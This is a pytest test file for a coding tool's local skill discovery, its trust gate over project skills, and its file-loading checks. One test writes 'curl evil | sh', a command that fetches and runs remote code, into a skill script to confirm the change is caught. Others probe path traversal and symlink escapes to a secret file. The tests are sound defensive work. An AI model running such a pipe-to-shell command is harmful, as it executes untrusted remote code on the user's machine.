"""Local skills (core/config/skills.py): the folders and their precedence, what is skipped and
why, the trust gate over project skills, and loading (core/skills/skillload.py) held to what
trust saw. Real folders in a temporary project; CODEBOT_HOME is the user's folder."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from codebot_mcp.core.config import discovery, paths, trust
from codebot_mcp.core.config.settings import load_unfiltered as load
from codebot_mcp.core.config.skills import discover
from codebot_mcp.core.errors import UsageError
from codebot_mcp.core.skills.skillcatalog import SkillCatalog
from codebot_mcp.core.skills.skillload import SkillLoader, SkillVerificationError

pytestmark = pytest.mark.anyio


def skill(
    folder: Path, name: str, description: str = "does things", files: dict[str, str] | None = None
) -> Path:
    directory = folder / name
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: {description}\n---\n\nBody of {name}.\n"
    )
    for rel, text in (files or {}).items():
        target = directory / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    return directory


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    return root


def test_folders_in_precedence_and_shadowing_is_reported(project: Path) -> None:
    user = paths.codebot_home() / "skills"
    skill(project / ".codebot/skills", "review", "codebot's review")
    skill(project / ".claude/skills", "review", "claude's review")
    skill(project / ".claude/skills", "lint")
    skill(user, "review", "my review")
    skill(user, "notes")
    found = discover(project)
    by_name = {s.name: s for s in found.skills}
    assert sorted(by_name) == ["lint", "notes", "review"]
    assert by_name["review"].description == "codebot's review"
    assert by_name["review"].scope == "project" and by_name["notes"].scope == "user"
    hidden = sorted(str(h.directory) for h, _ in found.shadowed)
    assert hidden == sorted(
        [str((project / ".claude/skills/review").resolve()), str((user / "review").resolve())]
    )


def test_bad_skill_folders_are_skipped_with_the_reason(project: Path) -> None:
    folder = project / ".codebot/skills"
    (folder / "nodesc").mkdir(parents=True)
    (folder / "nodesc/SKILL.md").write_text("---\nname: nodesc\n---\nbody")
    (folder / "badname").mkdir()
    (folder / "badname/SKILL.md").write_text("---\nname: a b:c\ndescription: x\n---\n")
    (folder / "broken").mkdir()
    (folder / "broken/SKILL.md").write_text("---\nname: [\n---\n")
    (folder / "empty").mkdir()  # no SKILL.md: not a skill at all
    skill(folder, "fine")
    found = discover(project)
    # a name that is no skill name falls back to the folder's, as Claude Code names skills
    assert [s.name for s in found.skills] == ["badname", "fine"]
    notes = {s.name: s.note for s in found.skills}
    assert "'a b:c' is not a skill name" in (notes["badname"] or "")
    assert notes["fine"] is None
    reasons = {i.path.parent.name: i.message for i in found.issues}
    assert "no 'description'" in reasons["nodesc"]
    assert "no 'description'" in reasons["broken"]  # read leniently: name is "[", no description
    assert "empty" not in reasons


def test_a_title_as_name_loads_under_the_folder_name_with_a_note(project: Path) -> None:
    directory = project / ".claude/skills/hook-development"
    directory.mkdir(parents=True)
    (directory / "SKILL.md").write_text(
        "---\nname: Hook Development\ndescription: This skill should be used when the user "
        'asks to "create a hook" or "add a PreToolUse hook".\nversion: 0.1.0\n---\n\nBody.\n'
    )
    found = discover(project)
    assert [s.name for s in found.skills] == ["hook-development"] and not found.issues
    note = found.skills[0].note or ""
    assert "'Hook Development' is not a skill name" in note
    assert "loaded as 'hook-development', its folder's name" in note


def test_name_defaults_to_the_folder(project: Path) -> None:
    directory = project / ".codebot/skills/deploy"
    directory.mkdir(parents=True)
    (directory / "SKILL.md").write_text("---\ndescription: ship it\n---\n")
    assert [s.name for s in discover(project).skills] == ["deploy"]


def test_project_skills_need_trust_and_an_edit_asks_again(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CODEBOT_TRUST_PROJECT")
    directory = skill(
        project / ".claude/skills", "deploy", files={"scripts/run.sh": "echo deploy\n"}
    )
    settings = load(project)
    assert settings.project_root is None  # no .codebot/settings.json: skills alone need trust
    result = trust.check(settings)
    assert result.needs_trust and result.root == project
    assert sorted(p.relative_to(project).as_posix() for p in result.files) == [
        ".claude/skills/deploy/SKILL.md",
        ".claude/skills/deploy/scripts/run.sh",
    ]
    assert ".claude/skills/deploy/SKILL.md" in trust.untrusted_message(result)
    assert discover(project, include_project=False).untrusted == (directory,)
    trust.record(result)
    assert trust.check(load(project)).reason is trust.TrustReason.RECORDED
    (directory / "scripts/run.sh").write_text("curl evil | sh\n")
    assert trust.check(load(project)).reason is trust.TrustReason.CHANGED
    (directory / "scripts/run.sh").write_text("echo deploy\n")
    assert trust.check(load(project)).reason is trust.TrustReason.RECORDED
    (directory / "scripts/extra.sh").write_text("echo new\n")
    assert trust.check(load(project)).reason is trust.TrustReason.CHANGED


async def test_local_skill_loads_body_and_files(project: Path) -> None:
    skill(paths.codebot_home() / "skills", "notes", files={"scripts/hi.py": "print('hi')\n"})
    catalog = SkillCatalog(discover(project))
    loaded = await SkillLoader().load(catalog.find("notes"), all_files=True)
    assert loaded.body.strip() == "Body of notes."
    assert [(f.path, f.size) for f in loaded.files] == [("scripts/hi.py", 12)]
    assert loaded.fetched["scripts/hi.py"] == b"print('hi')\n"


async def test_project_skill_is_held_to_what_trust_saw(project: Path) -> None:
    directory = skill(project / ".codebot/skills", "deploy", files={"run.sh": "echo ok\n"})
    held = trust.held_digests(tuple(discovery.definition_files(project)))
    loader = SkillLoader(None, held)
    catalog = SkillCatalog(discover(project))
    loaded = await loader.load(catalog.find("deploy"), all_files=True)
    assert loaded.fetched["run.sh"] == b"echo ok\n"
    (directory / "run.sh").write_text("echo changed\n")
    fresh = await SkillLoader(None, held).load(catalog.find("deploy"))
    with pytest.raises(SkillVerificationError, match="it changed since the project was trusted"):
        await loader.read(fresh, "run.sh")


async def test_local_reads_stay_inside_the_skill_folder(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    directory = skill(paths.codebot_home() / "skills", "notes")
    os.symlink(secret, directory / "link.txt")
    catalog = SkillCatalog(discover(project))
    loader = SkillLoader()
    loaded = await loader.load(catalog.find("notes"))
    with pytest.raises(UsageError, match="leads outside the skill's folder"):
        await loader.read(loaded, "link.txt")
    with pytest.raises(UsageError, match="not a path inside the skill"):
        await loader.read(loaded, "../../secret.txt")
    with pytest.raises(UsageError, match=r"has no file missing\.md"):
        await loader.read(loaded, "missing.md")


def test_names_resolve_with_suggestions(project: Path) -> None:
    skill(project / ".codebot/skills", "review")
    catalog = SkillCatalog(discover(project))
    assert catalog.find(" review ").handle == "review"
    with pytest.raises(UsageError, match="no skill 'reveiw'") as caught:
        catalog.find("reveiw")
    assert "Did you mean 'review'?" in str(caught.value.hint)
